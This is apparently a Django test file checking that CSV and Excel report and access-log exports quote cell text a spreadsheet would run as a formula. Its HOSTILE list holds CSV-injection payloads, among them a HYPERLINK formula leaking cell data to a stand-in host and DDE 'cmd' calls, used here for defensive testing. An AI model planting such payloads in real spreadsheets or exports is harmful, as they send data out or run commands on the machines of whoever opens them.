"""Every CSV and Excel export is safe to open: stored text that a spreadsheet would run as a
formula (OWASP's CSV-injection list) comes out as text, and xlsx cells are never formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import RequestFactory
from django.urls import reverse
from openpyxl import load_workbook

from audit.access import log_read
from audit.models import AccessRecord
from tests.reports.dash_data import make_dash_data
from trelleborg.spreadsheets import FORMULA_PREFIXES, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Klicka")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def assert_no_formula_text(rows):
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(FORMULA_PREFIXES)), value


def csv_rows(content: bytes):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a live formula
    return list(sheet.iter_rows(values_only=True))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("K-00001", "K-00001"),
        ("Grupp Norr", "Grupp Norr"),
        (-2, -2),  # a number stays a number
        (-2.5, -2.5),
        (None, ""),
    ],
)
def test_safe_cell_quotes_only_text_that_starts_like_a_formula(value, written):
    assert safe_cell(value) == written


@pytest.mark.parametrize("kind", ["monthly", "monthly_public"])
def test_monthly_exports_write_a_hostile_unit_name_as_text(client, org, alice, bob, lena, kind):
    make_dash_data(org, caseworkers=(alice, bob))
    org["a"].name = HOSTILE[0]
    org["a"].save(update_fields=["name"])
    client.force_login(lena)
    params = {"unit": "org", "year": "2018", "kind": kind}
    text = csv_rows(client.get(reverse("reports:export"), {**params, "format": "csv"}).content)
    book = xlsx_rows(client.get(reverse("reports:export"), {**params, "format": "xlsx"}).content)
    for rows in (text, book):
        assert_no_formula_text(rows)
        assert "'" + HOSTILE[0] in {r[1] for r in rows}  # the name is there, as text
    # Numbers stay numbers in Excel.
    assert any(isinstance(v, int) for r in book[1:] for v in r)


def test_access_log_export_writes_hostile_refs_and_names_as_text(client, org, alice, ada):
    request = RequestFactory().get("/arenden/1/", REMOTE_ADDR="192.0.2.10")
    request.user = alice
    log_read(request, kind="case", records=HOSTILE, unit=org["a"])
    AccessRecord.objects.update(username="@alice")  # a user name may start with @, + or -
    client.force_login(ada)
    response = client.get(reverse("audit:access_export"))
    rows = csv_rows(b"".join(response.streaming_content))
    assert_no_formula_text(rows)
    refs = {r[5] for r in rows[1:]}
    assert {"'" + h for h in HOSTILE} <= refs
    assert {r[1] for r in rows[1:]} >= {"'@alice"}


def test_eor_report_csv_contract_is_unchanged_and_safe(org, alice, bob):
    make_dash_data(org, caseworkers=(alice, bob))
    out = io.StringIO()
    call_command("eor_report", unit="unit-a", year="2018", format="csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0][:6] == [
        "month",
        "exits_work",
        "exits_studies",
        "exits_total",
        "eor",
        "individual_targets_sum",
    ]
    assert len(rows) == 13 and rows[1][0] == "2018-01"
    assert_no_formula_text(rows)
